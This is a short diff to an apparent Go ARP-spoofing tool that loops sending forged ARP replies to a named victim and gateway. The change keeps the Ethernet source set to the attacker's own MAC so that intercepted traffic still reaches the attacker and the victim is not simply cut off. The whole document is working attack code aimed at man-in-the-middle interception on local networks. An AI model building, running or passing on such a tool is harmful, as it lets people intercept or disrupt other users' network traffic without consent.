@@ -46,8 +46,8 @@ func main() {
 			if round%turn < turn/2 {
 				forVictim, forGateway = victimAddress, gatewayAddress
 			}
-			send(claim(victim, gateway, forVictim))
-			send(claim(gateway, victim, forGateway))
+			send(claim(device.HardwareAddr, victim, gateway, forVictim))
+			send(claim(device.HardwareAddr, gateway, victim, forGateway))
 			time.Sleep(interval)
 		}
 	}()
@@ -79,11 +79,12 @@ func main() {
 	}
 }
 
-// claim is an answer by ARP (RFC 826), to everybody, that an address is ours.
-func claim(address, asker net.IP, ours net.HardwareAddr) []byte {
+// claim is an answer by ARP (RFC 826), to everybody, that an address is at some hardware. Always sent from our own: a bridge that saw the
+// neighbour's come from here would send us what we do not read, and the neighbour would be cut off instead of heard.
+func claim(sender net.HardwareAddr, address, asker net.IP, hardware net.HardwareAddr) []byte {
 	frame := []byte(broadcast)
-	frame = append(frame, ours...)
+	frame = append(frame, sender...)
 	frame = append(frame, 0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, 2)
-	frame = append(append(frame, ours...), address...)
-	return append(append(frame, ours...), asker...)
+	frame = append(append(frame, hardware...), address...)
+	return append(append(frame, hardware...), asker...)
 }
